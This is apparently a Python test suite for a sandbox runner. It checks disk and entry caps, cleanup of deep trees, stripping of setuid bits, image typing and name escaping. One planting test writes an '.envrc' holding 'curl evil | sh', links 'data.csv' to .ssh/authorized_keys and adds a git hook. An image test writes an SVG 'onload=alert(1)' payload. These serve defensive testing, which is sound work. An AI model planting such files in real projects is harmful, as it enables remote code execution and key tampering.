"""What a run leaves on disk: the disk cap whatever the tree's shape, an
entry cap, cleanup at any depth, setuid/setgid stripped, non-regular entries
reported, images typed by their content, file names made valid UTF-8.

Usage: test-disk.py PATH-TO-SANDPAD-RUNNER [TEST-NAME...]
Each check uses the real runner and Debian's python3, in the sandbox mode
SANDPAD_TEST_SANDBOX names (meson runs both).
"""

import os
import shutil
import stat
import sys
import tempfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from runnertest import Runner, main  # noqa: E402

RUNNER = sys.argv[1]
NOBODY = 65534  # the uid a root runner runs programs as
MODE = os.environ.get("SANDPAD_TEST_SANDBOX", "namespaces")


# Runs here may name a cwd under the temporary directory (the runner's
# path policy, docs/protocol.md).
ALLOW = ["--allow-cwd", tempfile.gettempdir()]


def runner(*args, work_parent=None):
    extra = ["--work-parent", work_parent] if work_parent else []
    return Runner(RUNNER, "--cancel-grace-ms", "300", "--sandbox", MODE, "--strict", *extra,
                  *ALLOW, *args)


def shared_dir():
    """A directory the run's user (nobody, for a root runner) may write."""
    path = tempfile.mkdtemp(prefix="sandpad-disk-test-")
    os.chmod(path, 0o777)
    if os.geteuid() == 0:
        os.chown(path, NOBODY, NOBODY)  # a cwd must belong to the run's uid
    return path


def test_deep_tree_counts(t):
    # 64 KiB in each level of a chain far deeper than the report walks:
    # the old accounting stopped at 16 levels and let this reach 64 MiB.
    r = runner("--disk", "16")
    code = ("import os\nfor i in range(1024):\n"
            "    os.mkdir('d'); os.chdir('d')\n"
            "    open('f', 'wb').write(b'x' * 65536)\n"
            "print('wrote it all')\n"
            "import time\ntime.sleep(1)\n")
    res = r.run("deep", code, timeout_ms=20000)
    t.eq(res.exited.get("limit"), "disk", "64 MiB spread over 1024 levels hits a 16 MiB cap", res)
    r.close()


def test_empty_files_count(t):
    # Empty files take no blocks but are not free: --disk 1 used to allow
    # any number of them.
    r = runner("--disk", "1")
    code = ("import os, time\nfor i in range(5000):\n    open(f'e{i}', 'w').close()\n"
            "time.sleep(1)\n")
    res = r.run("empty", code, timeout_ms=20000)
    t.eq(res.exited.get("limit"), "disk", "5000 empty files exceed --disk 1", res)
    r.close()

    r = runner("--disk-files", "100")
    code = ("import os, time\nfor i in range(500):\n    os.mkdir(f'd{i}')\ntime.sleep(1)\n")
    res = r.run("dirs", code, timeout_ms=20000)
    t.eq(res.exited.get("limit"), "disk", "500 empty directories exceed --disk-files 100", res)
    code = ("import os, time\nfor i in range(500):\n    os.symlink('/', f'l{i}')\ntime.sleep(1)\n")
    res = r.run("links", code, timeout_ms=20000)
    t.eq(res.exited.get("limit"), "disk", "500 symlinks exceed --disk-files 100", res)
    res = r.run("few", "import os\nfor i in range(50):\n    os.mkdir(f'd{i}')\n")
    t.ok(res.exited.get("limit") is None and res.exited.get("exit_code") == 0,
         "50 directories are within --disk-files 100", res)
    r.close()


def test_too_deep_is_over(t):
    # A chain deeper than the accounting walks is over the limit, not
    # silently measured in part. Without sleeping the run ends first; the
    # final measurement still names the limit.
    r = runner()
    code = "import os\nfor i in range(3000):\n    os.mkdir('a'); os.chdir('a')\n"
    res = r.run("chain", code, timeout_ms=20000)
    t.eq(res.exited.get("limit"), "disk", "3000 empty nested directories are over the limit", res)
    r.close()


def build_deep_tree_code(chains, depth):
    """Python for a run that builds a tree chains*depth levels deep: chains
    of depth levels each, then moved into each other's bottoms with a few
    renames, faster than any disk poll can notice."""
    return f"""
import os
root = os.open('.', os.O_RDONLY)
for c in range({chains}):
    os.fchdir(root)
    os.mkdir(f'c{{c}}'); os.chdir(f'c{{c}}')
    for i in range({depth}):
        os.mkdir('a'); os.chdir('a')
    os.mkdir('locked')
    open('locked/leaf', 'w').write('x')
    try:
        os.chmod('locked', 0)
    except PermissionError:
        # Fallback mode refuses chmod; a directory made unreadable from
        # the start is the run's other way to lock one.
        os.mkdir('sealed', 0)
os.fchdir(root)
for c in range({chains} - 1, 0, -1):
    bottom = f'c{{c - 1}}/' + '/'.join(['a'] * {depth})
    os.rename(f'c{{c}}', bottom + '/more')
print('built')
"""


def tree_depth(path):
    """Levels below path, following the single chain of directories."""
    fd = os.open(path, os.O_RDONLY | os.O_DIRECTORY)
    depth = 0
    try:
        while True:
            subdirs = [e.name for e in os.scandir(fd)
                       if e.is_dir(follow_symlinks=False) and e.name not in ("locked", "sealed")]
            if not subdirs:
                return depth
            os.chmod(subdirs[0], 0o700, dir_fd=fd)
            sub = os.open(subdirs[0], os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = sub
            depth += 1
    finally:
        os.close(fd)


def test_cleanup_any_depth(t):
    parent = tempfile.mkdtemp(prefix="sandpad-disk-parent-")
    os.chmod(parent, 0o755)
    try:
        r = runner(work_parent=parent)
        res = r.run("deep", build_deep_tree_code(6, 900), timeout_ms=60000)
        cwd = res.started["cwd"]
        depth = tree_depth(cwd)
        # Deeper than any walk of the runner's goes (1,024 levels). The
        # renames usually beat the disk poll and give 5,400 levels; on a
        # loaded machine the poll may stop the run after the first few.
        t.ok(depth > 1024, f"the run built a tree {depth} levels deep", res)
        t.eq(res.exited.get("limit"), "disk", "a tree that deep is over the disk limit", res)
        r.send(type="release", id="deep")
        ev = r.recv_type("released")
        t.ok(ev is not None and not os.path.exists(cwd),
             "release removes the whole tree, unreadable directories and all")
        run_dir = os.path.dirname(cwd)
        t.ok(not os.path.exists(run_dir), "the run's private directory is gone", run_dir)
        r.close()
        t.eq(os.listdir(parent), [], "nothing of the runner is left in its work parent")
    finally:
        shutil.rmtree(parent, ignore_errors=True)


def test_locked_dir_measured(t):
    # A run may make its own directory unreadable to its own uid. As root
    # the runner reads it anyway; as the user (CI repeats this suite as an
    # ordinary account) it must still measure it, not call the run over a
    # limit, and leave the mode as the run set it.
    r = runner()
    # Fallback mode refuses chmod: there the run locks a directory by
    # making it unreadable from the start.
    code = ("import os, time\n"
            "os.mkdir('locked')\n"
            "open('locked/leaf', 'w').write('x' * 1000)\n"
            "try:\n"
            "    os.chmod('locked', 0)\n"
            "    name = 'locked'\n"
            "except PermissionError:\n"
            "    os.mkdir('sealed', 0)\n"
            "    name = 'sealed'\n"
            "time.sleep(0.7)\n"  # several disk polls walk the tree meanwhile
            "print(oct(os.stat(name).st_mode & 0o7777))\n")
    res = r.run("locked", code, timeout_ms=30000)
    t.eq(res.exited.get("limit"), None, "a locked directory is no limit", res)
    t.eq(res.exited.get("exit_code"), 0, "the run ended normally", res)
    t.eq(res.stdout.strip(), "0o0", "the directory keeps the mode the run gave it", res)
    r.close()


def test_setid_stripped(t):
    # Setting the bits is refused at the source (seccomp, every call that
    # takes a mode); whatever route remains, nothing setuid or setgid may
    # be left once the run is over.
    r = runner()
    code = ("import os\nrefused = []\n"
            "for name, mode in (('su', 0o4755), ('sg', 0o2755), ('both', 0o6711)):\n"
            "    open(name, 'w').write('#!/bin/sh\\n')\n"
            "    try:\n        os.chmod(name, mode)\n"
            "    except PermissionError:\n        refused.append(name)\n"
            "try:\n    os.close(os.open('created', os.O_CREAT | os.O_WRONLY, 0o4755))\n"
            "except PermissionError:\n    refused.append('created')\n"
            "print(' '.join(refused))\n")
    res = r.run("setid", code)
    t.eq(res.stdout, "su sg both created\n", "every way to set the bits was refused", res)
    cwd = res.started["cwd"]
    modes = {n: stat.S_IMODE(os.lstat(os.path.join(cwd, n)).st_mode)
             for n in ("su", "sg", "both")}
    t.ok(all(m & 0o6000 == 0 for m in modes.values()),
         "after the run no file it made is setuid or setgid", {k: oct(v) for k, v in modes.items()})
    r.close()

    # A hard link is a route no mode argument shows: the run links a setuid
    # file of its uid, deep in a named directory; the runner strips it.
    d = shared_dir()
    try:
        mine = os.path.join(d, "mine")
        open(mine, "w").write("x")
        os.chmod(mine, 0o4755)
        linked = os.path.join(d, "linked")
        open(linked, "w").write("x")
        if os.geteuid() == 0:
            os.chown(linked, NOBODY, NOBODY)
        os.chmod(linked, 0o4755)
        deep = "deep/" + "/".join(["d"] * 40)
        r = runner()
        code = (f"import os\nos.makedirs('{deep}')\nos.link('linked', '{deep}/su')\n"
                f"print(oct(os.stat('{deep}/su').st_mode & 0o6000))\n")
        res = r.run("cwd", code, cwd=d)
        t.eq(res.stdout, "0o4000\n", "the run made a setuid link in a named directory", res)
        t.eq(oct(stat.S_IMODE(os.stat(os.path.join(d, deep, "su")).st_mode)), oct(0o755),
             "after the run it is stripped, at depth, the other bits kept")
        t.eq(oct(stat.S_IMODE(os.stat(mine).st_mode)), oct(0o4755),
             "the user's own setuid file, untouched by the run, stays as it was")
        r.close()
    finally:
        shutil.rmtree(d, ignore_errors=True)


def test_planted_entries(t):
    d = shared_dir()
    try:
        r = runner()
        code = ("import os, socket\n"
                "os.symlink(os.path.expanduser('~') + '/../.ssh/authorized_keys', 'data.csv')\n"
                "os.symlink(b'/etc/\\xff\\x01x', b'odd')\n"
                "os.mkfifo('pipe')\n"
                "open('.envrc', 'w').write('curl evil | sh\\n')\n"
                "os.makedirs('.git/hooks')\n"
                "open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\n')\n"
                "os.chmod('.git/hooks/pre-commit', 0o755)\n"
                "for i in range(300):\n    open(f'a{i:03}', 'w').write('x')\n"
                "try:\n    s = socket.socket(socket.AF_UNIX); s.bind('sock')\n"
                "except OSError:\n    pass\n")
        res = r.run("plant", code, cwd=d)
        files = {f["path"]: f for f in res.exited["files"]}
        t.eq(res.exited.get("files_truncated"), True, "more than 200 entries: truncated", res)
        t.eq(len(res.exited["files"]), 200, "at most 200 listed")
        link = files.get("data.csv", {})
        t.eq((link.get("kind"), link.get("mime")), ("symlink", "inode/symlink"),
             "a symlink named like data is reported as a symlink", link)
        t.ok(link.get("target", "").endswith("/.ssh/authorized_keys"),
             "with its target", link)
        t.eq(files.get("odd", {}).get("target"), "/etc/\\xff\\x01x",
             "a target that is not text is escaped into valid UTF-8", files.get("odd"))
        t.eq(files.get("pipe", {}).get("kind"), "fifo", "a FIFO is reported", files.get("pipe"))
        t.ok(".envrc" in files and ".git/hooks/pre-commit" in files,
             ".envrc and git hooks are listed before ordinary files", sorted(files)[:8])
        t.ok(all("kind" not in f for p, f in files.items() if p.startswith("a")),
             "regular files keep their shape (no kind)")
        if os.path.exists(os.path.join(d, "sock")):
            t.eq(files.get("sock", {}).get("kind"), "socket", "a socket is reported")
        t.ok(os.path.islink(os.path.join(d, "data.csv")), "nothing is deleted from a named cwd")
        r.close()
    finally:
        shutil.rmtree(d, ignore_errors=True)


PNG_CODE = """
import struct, zlib
def chunk(kind, data):
    return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))
def png(w, h):
    return (b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', w, h, 8, 2, 0, 0, 0))
            + chunk(b'IDAT', zlib.compress(b'\\0' * (3 * w + 1) * min(h, 4))) + chunk(b'IEND', b''))
def gif(w, h, fw, fh):
    return (b'GIF89a' + struct.pack('<HHBBB', w, h, 0, 0, 0)
            + b'\\x21\\xf9\\x04\\x00\\x00\\x00\\x00\\x00'
            + b'\\x2c' + struct.pack('<HHHHB', 0, 0, fw, fh, 0) + b'\\x02\\x02\\x44\\x01\\x00;')
def jpeg(w, h):
    return (b'\\xff\\xd8\\xff\\xe0' + struct.pack('>H', 16) + b'JFIF\\0' + bytes(9)
            + b'\\xff\\xc0' + struct.pack('>HBHHB', 11, 8, h, w, 1) + bytes(3) + b'\\xff\\xd9')
open('good.png', 'wb').write(png(3, 2))
open('renamed.bin', 'wb').write(png(5, 4))
open('fake.png', 'wb').write(b'<svg onload=alert(1)>')
open('huge.png', 'wb').write(png(100000, 100000))
open('wide.png', 'wb').write(png(16384, 16384))
open('noihdr.png', 'wb').write(b'\\x89PNG\\r\\n\\x1a\\n' + bytes(100))
open('good.gif', 'wb').write(gif(7, 6, 7, 6))
open('frame.gif', 'wb').write(gif(7, 6, 60000, 60000))
open('good.jpg', 'wb').write(jpeg(9, 8))
open('zero.jpg', 'wb').write(jpeg(9, 0))
open('pic.webp', 'wb').write(b'RIFF\\0\\0\\0\\0WEBPVP8 ')
open('pic.bmp', 'wb').write(b'BM' + bytes(60))
open('draw.svg', 'w').write('<svg xmlns="http://www.w3.org/2000/svg"/>')
"""


def test_image_typing(t):
    r = runner()
    res = r.run("img", PNG_CODE, return_base64=True)
    files = {f["path"]: (f["mime"], f.get("width"), f.get("height")) for f in res.exited["files"]}
    octet = ("application/octet-stream", None, None)
    want = {
        "good.png": ("image/png", 3, 2),
        "renamed.bin": ("image/png", 5, 4),
        "fake.png": octet,
        "huge.png": octet,
        "wide.png": octet,
        "noihdr.png": octet,
        "good.gif": ("image/gif", 7, 6),
        "frame.gif": octet,
        "good.jpg": ("image/jpeg", 9, 8),
        "zero.jpg": octet,
        "pic.webp": octet,
        "pic.bmp": octet,
        "draw.svg": ("image/svg+xml", None, None),
    }
    for name, expected in want.items():
        t.eq(files.get(name), expected, f"{name} is typed {expected[0]}", res if name == "good.png" else None)
    b64 = {f["path"] for f in res.exited["files"] if "base64" in f}
    t.eq(b64, {"good.png", "renamed.bin", "good.gif", "good.jpg"},
         "only bounded images by content come inline")
    r.close()


def test_non_utf8_names(t):
    r = runner()
    code = ("import os\nopen(b'caf\\xe9.txt', 'w').write('x')\n"
            "open(b'\\x1b[31mred', 'w').write('x')\n"
            "open(b'ok-\\xc3\\xa9.txt', 'w').write('x')\n")
    res = r.run("names", code)
    t.eq(res.exited["type"], "exited", "the run ends with an exited event", res)
    paths = sorted(f["path"] for f in res.exited.get("files", []))
    t.eq(paths, sorted(["caf\\xe9.txt", "ok-\u00e9.txt", "\\x1b[31mred"]),
         "invalid bytes and control characters are escaped, valid UTF-8 kept", res)
    t.eq(res.exited.get("end"), "exited", "and the run is reported as it ended")
    r.close()


def test_cwd_too_big(t):
    d = shared_dir()
    try:
        for i in range(120):
            open(os.path.join(d, f"f{i}"), "w").close()
        r = runner("--disk-files", "100")
        res = r.run("big", "print('ran')", cwd=d)
        t.eq((res.exited["end"], res.stdout), ("failed", ""),
             "a named directory too large to measure is refused, not half-measured", res)
        r.close()
    finally:
        shutil.rmtree(d, ignore_errors=True)


ALL = [
    test_deep_tree_counts,
    test_empty_files_count,
    test_too_deep_is_over,
    test_cleanup_any_depth,
    test_locked_dir_measured,
    test_setid_stripped,
    test_planted_entries,
    test_image_typing,
    test_non_utf8_names,
    test_cwd_too_big,
]

if __name__ == "__main__":
    by_name = {test.__name__[len("test_"):]: test for test in ALL}
    wanted = sys.argv[2:]
    unknown = [name for name in wanted if name not in by_name]
    if unknown:
        sys.exit(f"unknown test {unknown}; known: {sorted(by_name)}")
    main([by_name[name] for name in wanted] if wanted else ALL)
